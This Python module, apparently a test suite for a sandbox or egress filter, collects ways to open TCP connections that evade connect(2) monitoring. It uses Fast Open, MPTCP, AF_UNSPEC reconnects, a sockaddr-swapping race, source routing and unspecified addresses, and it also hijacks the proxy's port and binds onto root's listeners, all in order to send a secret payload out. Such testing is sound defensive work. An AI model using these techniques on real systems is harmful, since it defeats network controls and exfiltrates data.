"""Ways to open a TCP connection that might miss whoever looks at connect(2)."""

from __future__ import annotations

import ctypes
import errno
import os
import select
import socket
import struct
import threading
import time
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from attacks.base import (
    AUTHORIZED,
    DONE,
    LIBC,
    PATIENCE_S,
    SECRET,
    converse,
    failure,
    family_of,
    raw_connect,
    shown,
    sockaddr_in,
    stream,
    told,
)

IPPROTO_MPTCP, MSG_FASTOPEN, TCP_FASTOPEN_CONNECT, TCP_REPAIR, TCP_ULP = 262, 0x20000000, 30, 19, 31
IP_OPTIONS, IP_FREEBIND, IP_TRANSPARENT, IPV6_RTHDR, SO_MARK, SO_ZEROCOPY, MSG_ZEROCOPY = (
    4,
    15,
    19,
    57,
    36,
    60,
    0x4000000,
)
AF_UNSPEC = struct.pack("=H14x", socket.AF_UNSPEC)


def plain(address: str, port: int) -> str:
    with stream(address) as opened:
        opened.connect((address, port))
        return converse(opened)


def mapped(address: str, port: int) -> str:
    return plain(f"::ffff:{address}", port)


def nonblocking(address: str, port: int) -> str:
    with stream(address) as opened:
        opened.setblocking(False)
        result = opened.connect_ex((address, port))
        if result not in {0, errno.EINPROGRESS}:
            return errno.errorcode[result]
        select.select([], [opened], [], PATIENCE_S)
        if failed := opened.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            return errno.errorcode[failed]
        return converse(opened)


def bound(address: str, port: int) -> str:
    with stream(address) as opened:
        opened.bind(("::1" if ":" in address else "127.0.0.1", 0))
        opened.connect((address, port))
        return converse(opened)


def fastopen_sendto(address: str, port: int, protocol: int = 0) -> str:
    with stream(address, protocol) as opened:
        opened.setblocking(True)  # or sendto would report EINPROGRESS
        opened.sendto(SECRET, MSG_FASTOPEN, (address, port))
        return converse(opened, b"")


def fastopen_sendmsg(address: str, port: int) -> str:
    with stream(address) as opened:
        opened.setblocking(True)
        opened.sendmsg([SECRET], [], MSG_FASTOPEN, (address, port))
        return converse(opened, b"")


def fastopen_connect(address: str, port: int) -> str:
    with stream(address) as opened:
        opened.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        opened.connect((address, port))
        return converse(opened)


def multipath(address: str, port: int) -> str:
    with stream(address, IPPROTO_MPTCP) as opened:
        opened.connect((address, port))
        return converse(opened)


def multipath_fastopen(address: str, port: int) -> str:
    return fastopen_sendto(address, port, IPPROTO_MPTCP)


def after_disconnect(address: str, port: int) -> str:
    """Connected to a listener inside, dissolved (AF_UNSPEC), connected again."""
    inside = "::1" if ":" in address else "127.0.0.1"
    with socket.create_server((inside, 0), family=family_of(address)) as server, stream(address) as opened:
        opened.connect(server.getsockname())
        if (result := raw_connect(opened, AF_UNSPEC)) != DONE:
            return result
        opened.connect((address, port))
        return converse(opened)


def after_permitted(permitted: str, permitted_port: int, address: str, port: int) -> str:
    """Connected to what is permitted, dissolved, connected to what is not: is the first record still believed?"""
    with stream(address) as opened:
        opened.connect((permitted, permitted_port))
        if (result := raw_connect(opened, AF_UNSPEC)) != DONE:
            return result
        opened.connect((address, port))
        return converse(opened)


def family_unspec(address: str, port: int) -> str:
    """A destination whose family says AF_UNSPEC: connect(2) takes it for a disconnect, sendto for AF_INET."""
    with stream(address) as opened:
        result = raw_connect(opened, sockaddr_in(address, port, socket.AF_UNSPEC))
        return f"{result}, then {told(opened.sendall, SECRET)}"


def wrong_family(address: str, port: int) -> str:
    """An AF_INET destination on an AF_INET6 socket."""
    with socket.socket(socket.AF_INET6) as opened:
        result = raw_connect(opened, sockaddr_in(address, port) + bytes(12))
        return f"{result}, then {told(opened.sendall, SECRET)}"


def unspecified(port: int) -> dict[str, str]:
    """0.0.0.0, :: and ::ffff:0.0.0.0, which the kernel takes for loopback."""
    return {address: told(plain, address, port) for address in ("0.0.0.0", "::", "::ffff:0.0.0.0")}


def to_a_device(address: str, port: int, device: str) -> str:
    with stream(address) as opened:
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        opened.connect((address, port))
        return converse(opened)


def repaired(address: str, port: int) -> str:
    """TCP_REPAIR: established without a handshake."""
    with stream(address) as opened:
        opened.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
        opened.connect((address, port))
        return DONE


def privileged_options(address: str) -> dict[str, str]:
    """Options that steer routing, each of which needs a capability."""
    options = {
        "transparent": (socket.SOL_IP, IP_TRANSPARENT, 1),
        "mark": (socket.SOL_SOCKET, SO_MARK, 7),
        "repair": (socket.IPPROTO_TCP, TCP_REPAIR, 1),
    }
    with stream(address) as opened:
        return {name: told(opened.setsockopt, *option) for name, option in options.items()}


def freely_bound(address: str, port: int, source: str) -> str:
    """From an address that this namespace has not (IP_FREEBIND)."""
    with stream(address) as opened:
        opened.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)
        opened.bind((source, 0))
        opened.connect((address, port))
        return converse(opened)


def source_routed(address: str, port: int, by: str) -> str:
    """Loose source routing (RFC 791): to ADDRESS, but by way of another host."""
    with stream(address) as opened:
        hops = socket.inet_aton(by) + socket.inet_aton(address)
        opened.setsockopt(socket.SOL_IP, IP_OPTIONS, b"\x01\x83" + bytes([3 + len(hops), 4]) + hops)
        opened.connect((address, port))
        return converse(opened)


def routed_v6(address: str, port: int, by: str) -> str:
    """A routing header of type 0 (RFC 2460 section 4.4) on an IPv6 socket."""
    with stream(address) as opened:
        header = struct.pack("BBBBI", 0, 2, 0, 1, 0) + socket.inet_pton(socket.AF_INET6, by)
        opened.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, header)
        opened.connect((address, port))
        return converse(opened)


def zero_copied(address: str, port: int) -> str:
    """A payload that the kernel takes from our pages."""
    with stream(address) as opened:
        opened.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
        opened.connect((address, port))
        opened.sendmsg([SECRET], [], MSG_ZEROCOPY)
        return converse(opened, b"")


def upper_layer(address: str, port: int, name: str) -> str:
    """TCP_ULP: another protocol over a TCP socket, "smc" or "tls"; whatever it says, then connect."""
    with stream(address) as opened:
        result = told(opened.setsockopt, socket.IPPROTO_TCP, TCP_ULP, name.encode())
        return f"{result}, then {told(opened.connect, (address, port))}"


def self_connected(address: str, port: int) -> dict[str, str]:
    """Simultaneous open: a socket bound to PORT that connects to itself, and one to a destination of the same port."""
    found = {}
    for name, target in (("itself", "127.0.0.1"), ("outside", address)):
        with stream("127.0.0.1") as opened:
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            opened.bind(("127.0.0.1", 4711))
            found[name] = told(opened.connect, (target, 4711 if name == "itself" else port))
            if found[name] == DONE and name == "itself":
                found[name] = told(opened.sendall, SECRET) + " " + opened.recv(99).decode("latin-1")
    return found


def through_a_listener(address: str, port: int) -> str:
    """A listening socket that is told to connect, and an accepted one that is dissolved and told to."""
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
        accepted = server.accept()[0]
        with accepted:
            client.close()
            raw_connect(accepted, AF_UNSPEC)
            first = told(accepted.connect, (address, port))
            second = told(server.connect, (address, port))
            later = told(accepted.sendall, SECRET) if first == DONE else "-"
            return f"{first} {later} {second}"


def while_it_changes(permitted: str, denied: str, port: int, rounds: int) -> dict[str, int]:
    """Another thread swaps the destination in memory while connect(2) reads it: judged one, dialled the other?"""
    good, bad = sockaddr_in(permitted, port), sockaddr_in(denied, port)
    buffer = ctypes.create_string_buffer(good, len(good))
    ending = threading.Event()

    def swap() -> None:
        while not ending.is_set():
            ctypes.memmove(buffer, bad, len(bad))
            ctypes.memmove(buffer, good, len(good))

    swapper = threading.Thread(target=swap)
    swapper.start()
    met: dict[str, int] = {}
    try:
        for _ in range(rounds):
            with stream(permitted) as opened:
                opened.setblocking(True)
                outcome = DONE if LIBC.connect(opened.fileno(), buffer, len(good)) == 0 else failure()
                if outcome == DONE:
                    peer = opened.getpeername()[0]
                    outcome = f"{peer} {told(opened.sendall, SECRET)}"
                met[outcome] = met.get(outcome, 0) + 1
    finally:
        ending.set()
        swapper.join()
    return met


def from_a_thread_storm(address: str, port: int, count: int) -> dict[str, int]:
    """COUNT connects of one socket and of many at once, by threads."""
    met: dict[str, int] = {}
    with stream(address) as shared:
        shared.setblocking(False)

        def attempt() -> None:
            for opened in (shared, stream(address)):
                outcome = told(opened.connect, (address, port))
                met[outcome] = met.get(outcome, 0) + 1
                told(opened.send, SECRET)
                if opened is not shared:
                    opened.close()

        threads = [threading.Thread(target=attempt) for _ in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    return met


def peer_is(address: str, port: int) -> dict[str, Any]:
    """Whom a client that checks is shown: by getpeername, by /proc/net/tcp."""
    with stream(address) as opened:
        opened.connect((address, port))
        table = Path("/proc/net/tcp6" if ":" in address else "/proc/net/tcp").read_text()
        return {"peer": opened.getpeername()[:2], "established": table.count(" 01 "), "reply": converse(opened)}


def to_listeners(payload: str) -> dict[str, str]:
    """Every listening port on this namespace's loopback, dialled by its own address: what answers PAYLOAD?"""
    found = {}
    for table, local in (("/proc/net/tcp", "127.0.0.1"), ("/proc/net/tcp6", "::1")):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":
                port = int(fields[1].rpartition(":")[2], 16)
                try:
                    with stream(local) as opened:
                        opened.connect((local, port))
                        found[f"{local} {port}"] = converse(opened, shown(payload).encode("latin-1"))
                except OSError as error:
                    found[f"{local} {port}"] = str(error)
    return found


def listening(port: int, place: str) -> dict[str, Any]:
    """Wait for somebody outside to come and fetch what we have, until the file in `place` that says we wait is gone."""
    waiting = Path(place, "listening")
    visitors = 0
    with socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True) as server:
        server.settimeout(0.05)
        waiting.touch()
        end = time.monotonic() + 2 * PATIENCE_S
        while waiting.exists() and time.monotonic() < end:
            with suppress(TimeoutError):
                with server.accept()[0] as client:
                    client.sendall(SECRET)
                visitors += 1
    return {"visitors": visitors}


def spelled(texts: list[str], port: int) -> dict[str, str]:
    """Names as getaddrinfo(3) takes them, dialled: decimal, octal, short and hexadecimal addresses among them."""
    found = {}
    for text in texts:
        try:
            places = socket.getaddrinfo(text, port, type=socket.SOCK_STREAM)
        except socket.gaierror as error:
            found[text] = f"no address: {error.args[0]}"
            continue
        try:
            found[text] = plain(str(places[0][4][0]), port)
        except OSError as error:
            found[text] = errno.errorcode.get(error.errno or 0, type(error).__name__)
    return found


def each_address(addresses: list[str], port: int, data: str = "GET / HTTP/1.0\r\n\r\n") -> dict[str, str]:
    """What each destination answers."""
    found = {}
    for address in addresses:
        try:
            with stream(address) as opened:
                opened.settimeout(PATIENCE_S)
                opened.connect((address, port))
                found[address] = converse(opened, data.encode("latin-1"))
        except OSError as error:
            found[address] = errno.errorcode.get(error.errno or 0, type(error).__name__)
    return found


def identity() -> dict[str, Any]:
    return {"uid": os.getuid(), "pid": os.getpid()}


def migrated(permitted: str, permitted_port: int, denied: str, denied_port: int) -> dict[str, Any]:
    """With sockets made before somebody moves this process to another cgroup, and with new ones."""
    before = Path("/proc/self/cgroup").read_text()
    made = {
        "old, permitted": (stream(permitted), permitted, permitted_port),
        "old, denied": (stream(denied), denied, denied_port),
    }
    Path("/proc/self/comm").write_text("nono-migrant")
    end = time.monotonic() + 3 * PATIENCE_S
    while Path("/proc/self/cgroup").read_text() == before and time.monotonic() < end:
        time.sleep(0.01)
    found: dict[str, Any] = {"moved": Path("/proc/self/cgroup").read_text() != before}
    for name, (opened, address, port) in made.items():
        found[name] = _spoken(opened, address, port)
        found[name.replace("old", "new")] = _spoken(stream(address), address, port)
    own = urlsplit(os.environ["HTTP_PROXY"]).port or 0
    request = shown(f"CONNECT {permitted}:{permitted_port} HTTP/1.1\r\nHost: {permitted}\r\n{AUTHORIZED}\r\n")
    found["new, proxy"] = _spoken(stream("127.0.0.1"), "127.0.0.1", own, request.encode())
    return found


def _spoken(opened: socket.socket, address: str, port: int, data: bytes = SECRET) -> str:
    with opened:
        try:
            opened.connect((address, port))
            return converse(opened, data)
        except OSError as error:
            return errno.errorcode.get(error.errno or 0, type(error).__name__)


def usurp(address: str, port: int) -> dict[str, Any]:
    """Take the port of the proxy, wait for others' connections; and connect."""
    own = urlsplit(os.environ["HTTP_PROXY"]).port or 0
    with socket.socket() as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        bound_to = told(server.bind, ("127.0.0.1", own))
        if bound_to == DONE:
            server.listen()
        connects = [told(plain, address, port), told(plain, "203.0.113.10", 80), told(plain, "2001:db8::10", 443)]
        visitors = len(select.select([server], [], [], 0.2)[0]) if bound_to == DONE else 0
    return {"bound": bound_to, "connects": connects, "visitors": visitors}


def steal() -> dict[str, str]:
    """Bind what root's listeners are bound to, with every option that shares a port."""
    found = {}
    for table, kind, waiting in (("tcp", socket.SOCK_STREAM, "0A"), ("udp", socket.SOCK_DGRAM, "07")):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            address, _, port = line.split()[1].partition(":")
            if address == "0100007F" and (line.split()[3], line.split()[7]) == (waiting, "0"):
                found[f"{table} {int(port, 16)}"] = _bind_as_well(kind, int(port, 16))
    return found


def _bind_as_well(kind: int, port: int) -> str:
    with socket.socket(socket.AF_INET, kind) as opened:
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        return told(opened.bind, ("127.0.0.1", port))
